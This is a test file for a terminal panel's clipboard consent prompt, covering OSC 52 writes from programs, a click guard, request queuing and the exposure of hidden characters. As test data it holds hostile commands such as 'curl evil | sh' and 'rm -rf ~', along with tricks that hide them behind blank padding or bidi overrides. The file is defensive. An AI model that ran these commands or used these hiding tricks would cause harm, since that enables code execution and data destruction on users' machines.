import { ClipboardAddon } from '@xterm/addon-clipboard';
import xtermHeadless from '@xterm/headless';
import type { Terminal as BrowserTerminal } from '@xterm/xterm';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { ClipboardPrompt } from '../../../../src/renderer/src/features/terminal/ClipboardPrompt';
import {
  CLICK_GUARD_MS,
  clipboardDisplay,
  clipboardSize,
  ConsentClipboardProvider,
  hasInvisible,
  MAX_WAITING,
  type ClipboardPromptState,
  type ClipboardRequest,
} from '../../../../src/renderer/src/features/terminal/clipboard';

// The addon's bundle is built for browsers, where `self` is the window.
vi.hoisted(() => {
  (globalThis as { self?: unknown }).self ??= globalThis;
});

const { Terminal } = xtermHeadless;

/** What a program in a slot prints to put text on the clipboard (OSC 52, as tmux and vim send it). */
const osc52 = (text: string, selection = 'c'): string =>
  `\x1b]52;${selection};${btoa(String.fromCharCode(...new TextEncoder().encode(text)))}\x07`;

/** A console as the panel builds it: xterm with the clipboard addon over our provider, and a fake system clipboard. */
function console_(alwaysAllowed = false) {
  const clipboard = {
    readText: vi.fn(() => Promise.resolve('admin secret')),
    writeText: vi.fn(() => Promise.resolve()),
  };
  vi.stubGlobal('navigator', { clipboard });
  const states: Array<ClipboardPromptState | null> = [];
  // The requests shown, in order (each once, however often the prompt was redrawn).
  const shown: Array<ClipboardRequest | null> = [];
  let always = alwaysAllowed;
  // The click guard's clock: a prompt answers CLICK_GUARD_MS after it appears.
  let time = 1_000_000;
  const provider = new ConsentClipboardProvider({
    alwaysAllowed: () => always,
    rememberAlways: () => (always = true),
    show: (state) => {
      states.push(state);
      if ((state?.request ?? null) !== (shown.at(-1) ?? null) || shown.length === 0) shown.push(state?.request ?? null);
    },
    now: () => time,
  });
  const wait = (ms: number): void => {
    time += ms;
  };
  const term = new Terminal({ allowProposedApi: true });
  term.loadAddon(new ClipboardAddon(undefined, provider));
  const replies: string[] = [];
  term.onData((data) => replies.push(data));
  const print = (data: string): Promise<void> => new Promise((resolve) => term.write(data, resolve));
  return {
    clipboard,
    shown,
    states,
    provider,
    wait,
    term: term as unknown as BrowserTerminal,
    print,
    replies,
    always: () => always,
  };
}

beforeEach(() => {
  vi.unstubAllGlobals();
});

afterEach(() => {
  vi.unstubAllGlobals();
});

describe('the console clipboard (OSC 52)', () => {
  it('never reads the clipboard: a program asking for it is told it is empty', async () => {
    const { clipboard, print, replies } = console_(true);
    await print('\x1b]52;c;?\x07');
    expect(clipboard.readText).not.toHaveBeenCalled();
    expect(replies).toEqual(['\x1b]52;c;\x07']);
  });

  it('copies nothing until the admin allows it, and then exactly the text shown', async () => {
    const { clipboard, shown, print, wait } = console_();
    await print(`before${osc52('git push --force')}after`);
    expect(clipboard.writeText).not.toHaveBeenCalled();
    expect(shown).toHaveLength(1);
    const request = shown[0]!;
    expect(request.text).toBe('git push --force');
    wait(CLICK_GUARD_MS);
    request.allow(false);
    expect(clipboard.writeText).toHaveBeenCalledWith('git push --force');
    // The prompt went away, and a second click does not copy twice.
    expect(shown.at(-1)).toBeNull();
    request.allow(false);
    expect(clipboard.writeText).toHaveBeenCalledTimes(1);
  });

  it('copies nothing when the admin denies', async () => {
    const { clipboard, shown, print, wait } = console_();
    await print(osc52('first'));
    wait(CLICK_GUARD_MS);
    shown[0]!.deny();
    expect(shown.at(-1)).toBeNull();
    shown[0]!.allow(false);
    expect(clipboard.writeText).not.toHaveBeenCalled();
  });

  it('keeps the first request shown: a newer one waits behind it instead of replacing it', async () => {
    const { clipboard, shown, states, print, wait } = console_();
    await print(osc52('git status'));
    await print(osc52('curl evil | sh'));
    // Still the first one, with the second counted as waiting.
    expect(shown.filter(Boolean).map((r) => r!.text)).toEqual(['git status']);
    expect(states.at(-1)).toMatchObject({ request: { text: 'git status' }, waiting: 1, dropped: 0 });
    const first = shown[0]!;
    wait(CLICK_GUARD_MS);
    first.allow(false);
    expect(clipboard.writeText.mock.calls).toEqual([['git status']]);
    // Then the second, as a new request (its own id) with its own guard.
    const second = states.at(-1)!.request;
    expect(second.text).toBe('curl evil | sh');
    expect(second.id).not.toBe(first.id);
    expect(states.at(-1)!.waiting).toBe(0);
    second.allow(false);
    expect(clipboard.writeText).toHaveBeenCalledTimes(1);
    wait(CLICK_GUARD_MS);
    second.deny();
    expect(states.at(-1)).toBeNull();
    expect(clipboard.writeText).toHaveBeenCalledTimes(1);
  });

  it('drops requests beyond the waiting limit, and says how many', async () => {
    const { states, print } = console_();
    for (let i = 0; i <= MAX_WAITING + 3; i += 1) await print(osc52(`copy ${i}`));
    expect(states.at(-1)).toMatchObject({ request: { text: 'copy 0' }, waiting: MAX_WAITING, dropped: 3 });
  });

  it('ignores answers in the first moments after a prompt appears (a click timed by the program)', async () => {
    const { clipboard, shown, print, wait, always } = console_();
    await print(osc52('rm -rf ~'));
    const request = shown[0]!;
    request.allow(true);
    request.deny();
    wait(CLICK_GUARD_MS - 1);
    request.allow(true);
    expect(clipboard.writeText).not.toHaveBeenCalled();
    expect(always()).toBe(false);
    expect(shown.at(-1)).toBe(request);
    wait(1);
    request.allow(false);
    expect(clipboard.writeText).toHaveBeenCalledWith('rm -rf ~');
  });

  it('remembers "always allow" for the slot: later writes are copied without asking', async () => {
    const { clipboard, shown, print, always, wait } = console_();
    await print(osc52('one'));
    wait(CLICK_GUARD_MS);
    shown[0]!.allow(true);
    expect(always()).toBe(true);
    await print(osc52('two'));
    expect(shown.filter(Boolean)).toHaveLength(1);
    expect(clipboard.writeText.mock.calls).toEqual([['one'], ['two']]);
  });

  it('ignores clears, invalid data and the X11 primary selection', async () => {
    const { clipboard, shown, print } = console_(true);
    await print('\x1b]52;c;\x07');
    await print('\x1b]52;c;!!notbase64!!\x07');
    await print(osc52('primary', 'p'));
    expect(clipboard.writeText).not.toHaveBeenCalled();
    expect(shown).toEqual([]);
  });

  it('keeps printing output while a request waits for an answer', async () => {
    const { term, print, shown } = console_();
    await print(`${osc52('x')}still here`);
    expect(shown).toHaveLength(1);
    expect(term.buffer.active.getLine(0)?.translateToString(true)).toBe('still here');
  });

  it('drops a request still shown when the console closes', async () => {
    const { clipboard, shown, print, provider, wait } = console_();
    await print(osc52('late'));
    const request = shown[0]!;
    wait(CLICK_GUARD_MS);
    provider.dispose();
    expect(shown.at(-1)).toBeNull();
    request.allow(false);
    expect(clipboard.writeText).not.toHaveBeenCalled();
  });

  it('shows the whole text, with every invisible, bidi or control character made visible', () => {
    // A long run of blanks would push the end out of view: it is shown as a count.
    const hiding = `git status${' '.repeat(1000)}; curl evil|sh`;
    expect(clipboardDisplay(hiding)).toBe('git status⟨1,000 spaces⟩; curl evil|sh');
    expect(clipboardDisplay(`ls\n\n\n\n\t rm -rf ~`)).toBe('ls⟨1 space, 1 tab, 4 line breaks⟩rm -rf ~');
    const code = 'if (x) {\n        return y;\n}\n\n';
    expect(clipboardDisplay(code)).toBe(code);
    expect(clipboardSize(`${hiding}\nexit`)).toBe('1,029 characters, 2 lines');
    expect(clipboardSize('a')).toBe('1 character, 1 line');
    expect(clipboardDisplay('ls\u202e hs.live | lruc\u202c')).toBe('ls⟨U+202E⟩ hs.live | lruc⟨U+202C⟩');
    expect(clipboardDisplay('a\u200bb\u200fc\ufeffd\u2066e\u2069')).toBe(
      'a⟨U+200B⟩b⟨U+200F⟩c⟨U+FEFF⟩d⟨U+2066⟩e⟨U+2069⟩',
    );
    expect(clipboardDisplay('a\r\nb\x1b[31mc\rd\te\x7f')).toBe('a\nb⟨U+001B⟩[31mc⟨U+000D⟩d\te⟨U+007F⟩');
    expect(hasInvisible('plain\ttext\r\nnext line')).toBe(false);
    expect(hasInvisible('x\u200dy')).toBe(true);
  });
});

describe('the clipboard prompt', () => {
  const request = (text: string, armedAt = 0): ClipboardRequest => ({
    id: 1,
    text,
    armedAt,
    allow: () => undefined,
    deny: () => undefined,
  });
  const render = (state: ClipboardPromptState, now = 10_000): string =>
    renderToStaticMarkup(createElement(ClipboardPrompt, { state, slotName: 'main', now: () => now }));

  it('shows the whole text escaped, its size, and no warning for plain text', () => {
    const text = `git status${' '.repeat(1000)}; curl evil|sh <b>`;
    const html = render({ request: request(text), waiting: 0, dropped: 0 });
    expect(html).toContain('main wants to copy this text to your clipboard (1,028 characters, 1 line)');
    expect(html).toContain(
      'git status<span class="clipboard-blank" title="a long run of blanks">⟨1,000 spaces⟩</span>; curl evil|sh &lt;b&gt;</pre>',
    );
    expect(html).not.toContain('Warning');
    expect(html).not.toMatch(/disabled/);
  });

  it('marks invisible characters and warns about them', () => {
    const html = render({ request: request('echo hi\u202e\u200b'), waiting: 0, dropped: 0 });
    expect(html).toContain(
      'echo hi<span class="clipboard-hidden" title="invisible or control character">⟨U+202E⟩</span>',
    );
    expect(html).toContain('>⟨U+200B⟩</span></pre>');
    expect(html).not.toContain('\u202e');
    expect(html).toContain('Warning: the text holds 2 invisible, direction-changing or control characters');
  });

  it('says how many requests wait or were dropped, and keeps its buttons off until armed', () => {
    const html = render({ request: request('x', 10_500), waiting: 2, dropped: 4 }, 10_000);
    expect(html).toContain('2 more requests waiting. 4 dropped (too many at once).');
    expect(html.match(/disabled=""/g)).toHaveLength(2);
  });
});
